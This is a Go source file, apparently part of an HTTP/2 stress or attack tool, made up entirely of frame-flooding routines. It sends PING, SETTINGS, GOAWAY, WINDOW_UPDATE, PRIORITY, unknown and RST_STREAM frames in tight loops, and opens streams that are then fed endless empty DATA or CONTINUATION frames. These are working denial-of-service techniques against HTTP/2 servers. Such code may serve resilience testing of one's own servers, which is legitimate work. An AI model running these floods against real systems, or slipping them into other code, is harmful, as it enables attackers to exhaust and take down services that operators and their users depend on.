package attack

import (
	"context"

	"golang.org/x/net/http2"
)

// flood sends one kind of frame as fast as the server reads.
func flood(send func(*http2.Framer) error) func(context.Context, *client) error {
	return func(ctx context.Context, c *client) error {
		for ctx.Err() == nil {
			c.attacker.sent.Add(1)
			if err := send(c.frames); err != nil {
				return err
			}
		}
		return ctx.Err()
	}
}

func ping(f *http2.Framer) error     { return f.WritePing(false, [8]byte{}) }
func settings(f *http2.Framer) error { return f.WriteSettings() }
func goAway(f *http2.Framer) error   { return f.WriteGoAway(0, http2.ErrCodeNo, nil) }

func windowUpdate(f *http2.Framer) error { return f.WriteWindowUpdate(0, 1) }

func priority(f *http2.Framer) error {
	return f.WritePriority(1, http2.PriorityParam{Weight: 1})
}

func unknownFrame(f *http2.Framer) error { return f.WriteRawFrame(0x16, 0, 0, nil) }

func idleReset(f *http2.Framer) error { return f.WriteRSTStream(1, http2.ErrCodeCancel) }

// emptyData sends no bytes of a message without end.
func emptyData(ctx context.Context, c *client) error {
	id, err := c.begin(c.header(issueToken), message)
	if err != nil {
		return err
	}
	return flood(func(f *http2.Framer) error { return f.WriteData(id, false, nil) })(ctx, c)
}

// emptyContinuation sends no bytes of a header block without end.
func emptyContinuation(ctx context.Context, c *client) error {
	id, err := c.begin(c.header(issueToken), unended)
	if err != nil {
		return err
	}
	return flood(func(f *http2.Framer) error { return f.WriteContinuation(id, false, nil) })(ctx, c)
}
